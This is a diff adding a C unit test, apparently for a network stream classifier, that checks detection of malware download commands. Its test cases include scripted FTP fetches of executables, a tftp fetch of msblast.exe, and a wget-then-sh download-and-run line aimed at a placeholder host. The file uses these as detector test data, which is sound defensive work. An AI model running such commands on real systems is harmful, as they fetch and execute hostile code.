@@ -85,6 +85,42 @@ static void shells_of_both_kinds(void **state)
 	}
 }
 
+static void typed_downloads_are_announced(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *line, *purpose, *address, *name;
+		uint16_t port;
+		uint8_t protocol;
+	} cases[] = {
+		{ "echo open 192.0.2.9 8884 > o&echo user 1 1 >> o &echo get x.exe >> o &ftp -n "
+		  "-s:o\r\n",
+		  "ftp", "192.0.2.9", "x.exe", 8884, 6 },
+		{ "echo open 192.0.2.9>o\r\necho get y.exe>>o\r\nftp -s:o\r\n", "ftp", "192.0.2.9",
+		  "y.exe", 21, 6 },
+		{ "tftp.exe -i 192.0.2.9 GET msblast.exe\r\n", "tftp", "192.0.2.9", "msblast.exe",
+		  69, 17 },
+		{ "cd /tmp; wget http://192.0.2.9:8080/a/b; sh b\n", "http", "192.0.2.9", "a/b",
+		  8080, 6 },
+		{ "curl -O 'ftp://192.0.2.9/z'\n", "ftp", "192.0.2.9", "z", 21, 6 },
+	};
+	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
+		char text[ADDRESS_TEXT_SIZE];
+		struct talk *talk = talk_new(6, 1957);
+		talk_say(talk, STREAM_CLIENT, cases[i].line);
+		talk_describe(talk);
+		assert_true(talk_is(talk, "shell", STREAM_UNJUDGED));
+		assert_int_equal(talk->description.announcement_count, 1);
+		const struct stream_announcement *announced = talk->description.announcements;
+		assert_string_equal(announced->purpose, cases[i].purpose);
+		assert_string_equal(address_text(&announced->address, text), cases[i].address);
+		assert_string_equal(announced->name, cases[i].name);
+		assert_int_equal(announced->port, cases[i].port);
+		assert_int_equal(announced->protocol, cases[i].protocol);
+		talk_free(talk);
+	}
+}
+
 static void prose_is_no_shell(void **state)
 {
 	(void)state;
@@ -264,6 +300,7 @@ int main(void)
 		cmocka_unit_test(smtp_with_binary_command_deviates),
 		cmocka_unit_test(irc_of_a_bot),
 		cmocka_unit_test(shells_of_both_kinds),
+		cmocka_unit_test(typed_downloads_are_announced),
 		cmocka_unit_test(prose_is_no_shell),
 		cmocka_unit_test(dns_question_and_answer),
 		cmocka_unit_test(dns_loops_deviate),
